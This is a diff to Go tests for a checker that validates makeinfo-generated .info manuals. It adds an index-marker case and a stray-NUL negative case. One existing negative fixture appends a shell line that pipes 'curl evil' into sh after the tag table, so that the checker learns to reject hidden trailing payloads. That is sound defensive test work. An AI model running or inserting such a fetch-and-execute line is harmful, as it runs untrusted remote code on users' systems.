@@ -63,6 +63,8 @@ func TestMakeinfoManuals(t *testing.T) {
 	whole, split := makeinfoOutputs(t)
 	tarFiles := copyMap(split)
 	tarFiles["other/demo.info"] = whole
+	// makeinfo brackets index entries with NUL BS, as in GnuPG's manuals.
+	tarFiles["idx/demo.info"] = []byte(strings.Replace(string(whole), "Some text.", "Some text.\n\x00\x08[index\x00\x08]\n* Menu:\n\n* key:                                   First.                (line 6)", 1))
 	withSource := map[string][]byte{"doc/demo.texi": []byte(demoTexi)}
 	in := makeInput(withSource, tarFiles, "", "", "1.0")
 	r := Explain(in)
@@ -87,6 +89,7 @@ func TestMakeinfoNegatives(t *testing.T) {
 		"not makeinfo output":       []byte("\x7fELF\x02\x01\x01\x00binary payload\x1f\x8b"),
 		"data after the tag table":  append(append([]byte{}, whole...), []byte("\x1f\n#!/bin/sh\ncurl evil | sh\n")...),
 		"foreign segment":           []byte(strings.Replace(string(whole), "\x1f\nFile: demo.info,  Node: First", "\x1f\nPAYLOAD: demo.info,  Node: First", 1)),
+		"NUL outside markers":       []byte(strings.Replace(string(whole), "Some text.", "Some\x00text.", 1)),
 		"header names another file": []byte(strings.Replace(string(whole), "This is demo.info,", "This is evil.info,", 1)),
 	}
 	for name, b := range cases {
